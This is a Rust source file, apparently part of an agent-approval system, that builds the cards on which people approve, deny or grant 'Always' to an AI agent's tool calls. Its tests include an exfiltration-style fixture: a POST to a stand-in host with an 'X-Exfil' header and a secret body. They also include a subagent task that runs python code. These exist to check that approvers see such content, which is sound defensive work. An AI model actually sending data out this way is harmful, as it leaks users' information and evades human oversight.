//! The one place an approval card is built, for every surface (the chats and the console): who
//! asks, for what, why, what would happen, and the buttons the decision offers. A surface only
//! renders it.

use super::pending::{ApprovalChoice, MAX_OPTIONS};
use crate::executor::approval::ApprovalRequest;
use crate::policy::redact::Redactor;
use crate::policy::resolve::AlwaysOffer;
use tollgate_surface::{ApprovalCard, Button};

/// Characters of a command shown on an "Always" button (the card shows it whole).
pub const BUTTON_LABEL_CHARS: usize = 60;

/// `text` cut to `chars` characters, with `…` where it was cut.
#[must_use]
pub fn cut(text: &str, chars: usize) -> String {
    if text.chars().count() <= chars {
        return text.to_string();
    }
    let mut short: String = text.chars().take(chars.saturating_sub(1)).collect();
    short.push('…');
    short
}

/// The card for `request`, asked for by `requester`, and the choices its buttons offer;
/// `token` gives each choice's button data. Secrets are taken out here, before anything is
/// cut to fit: a label cut in the middle of a token would keep a piece the leak guard no
/// longer recognizes.
pub fn build_card(
    request: &ApprovalRequest,
    requester: &str,
    redactor: &Redactor,
    token: impl Fn(ApprovalChoice) -> String,
) -> (ApprovalCard, Vec<ApprovalChoice>) {
    let button = |label: String, choice: ApprovalChoice| Button {
        label,
        token: token(choice),
    };
    // A picker: nothing to approve until someone picked — one row per option (and its
    // binding), then Cancel.
    if let Some(options) = request.proposal.options.as_ref().filter(|o| !o.is_empty()) {
        let mut choices = vec![ApprovalChoice::Deny];
        let mut rows = Vec::new();
        for (i, option) in options.iter().take(MAX_OPTIONS).enumerate() {
            let i = u8::try_from(i).unwrap_or(u8::MAX);
            choices.extend([ApprovalChoice::Pick(i), ApprovalChoice::Bind(i)]);
            rows.push(vec![
                button(
                    cut(&redactor.redact(option), BUTTON_LABEL_CHARS),
                    ApprovalChoice::Pick(i),
                ),
                button(
                    cut(
                        &redactor.redact(&format!("Bind {option} for this agent")),
                        BUTTON_LABEL_CHARS,
                    ),
                    ApprovalChoice::Bind(i),
                ),
            ]);
        }
        rows.push(vec![button("✖ Cancel".into(), ApprovalChoice::Deny)]);
        let card = card_of(
            request,
            requester,
            redactor,
            details_of(request, None),
            rows,
        );
        return (card, choices);
    }
    let mut choices = vec![ApprovalChoice::Approve, ApprovalChoice::Deny];
    let mut rows = vec![vec![
        button("✅ Approve".into(), ApprovalChoice::Approve),
        button("⛔ Deny".into(), ApprovalChoice::Deny),
    ]];
    // "Always" only where the mode's ceiling asked (step 13): elsewhere it would change nothing.
    match &request.decision.always {
        AlwaysOffer::Tool => {
            choices.push(ApprovalChoice::AlwaysTool);
            rows.push(vec![button(
                "Always: this tool (this session)".into(),
                ApprovalChoice::AlwaysTool,
            )]);
        }
        AlwaysOffer::Command(key) => {
            choices.push(ApprovalChoice::AlwaysCommand);
            let label = format!("Always: {} (agent {})", key.describe(), request.agent);
            rows.push(vec![button(
                cut(&redactor.redact(&label), BUTTON_LABEL_CHARS),
                ApprovalChoice::AlwaysCommand,
            )]);
        }
        AlwaysOffer::None => {}
    }
    // What an "Always" covers, said before the preview: a long diff or task cut to fit the
    // platform must not cut this off the card.
    let covers = match &request.decision.always {
        AlwaysOffer::Command(key) => Some(format!(
            "\"Always\" would allow {} for agent {} from now on.",
            key.describe(),
            request.agent
        )),
        AlwaysOffer::Tool => {
            let tool = &request.proposal.tool;
            let scope = if tool == "spawn_subagent" {
                "any subagent, with any task and tools, each running its calls unasked".to_string()
            } else {
                format!("`{tool}` with any arguments")
            };
            Some(format!(
                "\"Always\" would allow {scope} in this session from now on (its reminders too), until the grant is revoked."
            ))
        }
        AlwaysOffer::None => None,
    };
    (
        card_of(
            request,
            requester,
            redactor,
            details_of(request, covers),
            rows,
        ),
        choices,
    )
}

/// What the call would do: `note` (what an "Always" covers), its message, then its preview
/// (the command, the diff). A call without a preview shows the arguments it would run
/// with: nobody approves what they cannot read, and a tool that forgot its preview must not
/// hide them.
fn details_of(request: &ApprovalRequest, note: Option<String>) -> String {
    // The note on what "Always" would allow comes first: a message can be long (a whole
    // command, a subagent's tool list), and a card cut after it must not lose the note.
    let mut details = String::new();
    if let Some(note) = note {
        details.push_str(&note);
        details.push_str("\n\n");
    }
    details.push_str(&request.proposal.message);
    let arguments = || {
        let args = &request.proposal.execute_args;
        let empty = args.is_null() || args.as_object().is_some_and(|a| a.is_empty());
        (!empty).then(|| serde_json::to_string_pretty(args).unwrap_or_else(|_| args.to_string()))
    };
    if let Some(preview) = request.proposal.preview.clone().or_else(arguments) {
        details.push('\n');
        details.push_str(&preview);
    }
    details
}

/// The card, every text a person reads redacted.
fn card_of(
    request: &ApprovalRequest,
    requester: &str,
    redactor: &Redactor,
    details: String,
    rows: Vec<Vec<Button>>,
) -> ApprovalCard {
    ApprovalCard {
        agent: request.agent.clone(),
        requester: requester.to_string(),
        tool: request.proposal.tool.clone(),
        tier: request.decision.tier.to_string(),
        reason: redactor.redact(&request.decision.reason),
        details: redactor.redact(&details),
        rows,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::GateDecision;
    use crate::policy::reason::{DecisionSource, ReasonCode};
    use crate::policy::tier::Decision;
    use crate::tools::Tool;
    use crate::tools::args::ArgKind;
    use serde_json::{Value, json};

    /// A value for each argument that the card must show: a string names its argument.
    fn marked(name: &str, kind: ArgKind) -> Value {
        match kind {
            ArgKind::String => json!(format!("marker-{name}")),
            ArgKind::Integer => json!(4242),
            ArgKind::Boolean => json!(true),
            ArgKind::Object => json!({ format!("marker-{name}-key"): format!("marker-{name}") }),
            ArgKind::Array => json!([format!("marker-{name}")]),
            ArgKind::OneOf(options) => json!(options[options.len() - 1]),
        }
    }

    /// Proposals made for a workspace that does not exist (nothing here reads files).
    fn nowhere() -> crate::tools::ProposeContext {
        crate::tools::ProposeContext::for_tests(std::path::Path::new("/nonexistent"))
    }

    fn card_for(proposal: crate::tools::Proposal) -> ApprovalCard {
        card_offering(proposal, AlwaysOffer::None)
    }

    fn card_offering(proposal: crate::tools::Proposal, always: AlwaysOffer) -> ApprovalCard {
        let request = ApprovalRequest {
            call_id: "c1".into(),
            asked: String::new(),
            session: "telegram:1".into(),
            agent: "a".into(),
            decision: GateDecision {
                decision: Decision::Prompt,
                source: DecisionSource::Mode,
                tier: proposal.declaration.tier,
                reason_code: ReasonCode::ModeCeiling,
                reason: "asks".into(),
                approval_key: None,
                classifier: None,
                always,
            },
            proposal,
        };
        build_card(&request, "someone", &Redactor::default(), |_| String::new()).0
    }

    /// Every built-in tool's card shows every argument the call was given: nobody approves
    /// what they cannot read (a plain tool's card once showed its name alone, so an admin
    /// approved `spawn_subagent` without seeing its task).
    #[test]
    fn every_builtin_tools_card_shows_its_arguments() {
        let workspace = tempfile::tempdir().unwrap();
        let root = crate::policy::paths::canonical_root(workspace.path());
        let context = crate::tools::ProposeContext::for_tests(&root);
        let mut hidden = Vec::new();
        for tool in crate::tools::builtin::all() {
            let args: serde_json::Map<String, Value> = tool
                .args
                .iter()
                .map(|a| (a.name.to_string(), marked(a.name, a.kind)))
                .collect();
            let args = Value::Object(args);
            let proposal = match tool.propose(&args, &context) {
                Ok(p) => p,
                // A tool whose marked arguments are not valid for it (a URL, a timeout) is
                // checked below with arguments of its own.
                Err(e) => {
                    assert!(
                        ["web_fetch", "http_request", "analyze_media"].contains(&tool.name),
                        "{}: {e}",
                        tool.name
                    );
                    continue;
                }
            };
            let card = card_for(proposal);
            for (name, value) in args.as_object().unwrap() {
                let shown = match value {
                    Value::String(s) => s.clone(),
                    Value::Array(_) | Value::Object(_) => format!("marker-{name}"),
                    other => other.to_string(),
                };
                if !card.details.contains(&shown) {
                    hidden.push(format!(
                        "{}: `{name}` ({shown}) in {:?}",
                        tool.name, card.details
                    ));
                }
            }
        }
        assert!(
            hidden.is_empty(),
            "cards hide arguments:\n{}",
            hidden.join("\n")
        );
    }

    #[test]
    fn a_requests_card_shows_its_headers_and_body_and_a_subagents_its_task() {
        let tools = crate::tools::builtin::all();
        let propose = |name: &str, args: Value| {
            let tool = tools.iter().find(|t| t.name == name).unwrap();
            let context = nowhere();
            card_for(tool.propose(&args, &context).unwrap()).details
        };
        let request = propose(
            "http_request",
            json!({"method": "POST", "url": "https://x.example/a", "headers": {"X-Exfil": "notes"}, "body": "the secret plan"}),
        );
        assert!(
            request.contains("POST https://x.example/a")
                && request.contains("X-Exfil: notes")
                && request.contains("the secret plan"),
            "{request}"
        );
        let task = "write a script\nand run it with python3 -c";
        let spawn = propose(
            "spawn_subagent",
            json!({"task": task, "tools": ["execute_command"]}),
        );
        assert!(
            spawn.contains(task)
                && spawn.contains("execute_command")
                && spawn.contains("high-risk"),
            "{spawn}"
        );
        let everything = propose("spawn_subagent", json!({"task": "t"}));
        assert!(
            everything.contains("all of this agent's tools"),
            "{everything}"
        );
    }

    /// An "Always: this tool" button says what it covers: any arguments, in the chat's
    /// reminders too; for `spawn_subagent`, any subagent with any task running unasked.
    #[test]
    fn an_always_this_tool_card_says_what_it_would_allow() {
        let tools = crate::tools::builtin::all();
        let context = nowhere();
        let offered = |name: &str, args: Value| {
            let tool = tools.iter().find(|t| t.name == name).unwrap();
            card_offering(tool.propose(&args, &context).unwrap(), AlwaysOffer::Tool)
        };
        let spawn = offered("spawn_subagent", json!({"task": "t"}));
        assert!(
            spawn
                .details
                .contains("any subagent, with any task and tools, each running its calls unasked")
                && spawn.details.contains("its reminders too"),
            "{}",
            spawn.details
        );
        assert!(
            spawn
                .rows
                .iter()
                .flatten()
                .any(|b| b.label.starts_with("Always: this tool"))
        );
        // First, before a message as long as a subagent's padded tool list (each tool is
        // named once): a card cut after 2,000 characters keeps the note and every tool.
        let tools = [vec!["read_file"; 300], vec!["execute_command"]].concat();
        let padded = offered("spawn_subagent", json!({"task": "t", "tools": tools}));
        let at = |needle: &str| padded.details.find(needle).unwrap();
        assert!(
            at("any subagent, with any task") < at("spawn a subagent"),
            "{}",
            padded.details
        );
        assert!(
            padded.details.contains("with: execute_command, read_file;")
                && padded.details.len() < 2_000,
            "{}",
            padded.details
        );
        let todo = offered("manage_todos", json!({"action": "clear"}));
        assert!(
            todo.details
                .contains("`manage_todos` with any arguments in this session"),
            "{}",
            todo.details
        );
    }
}
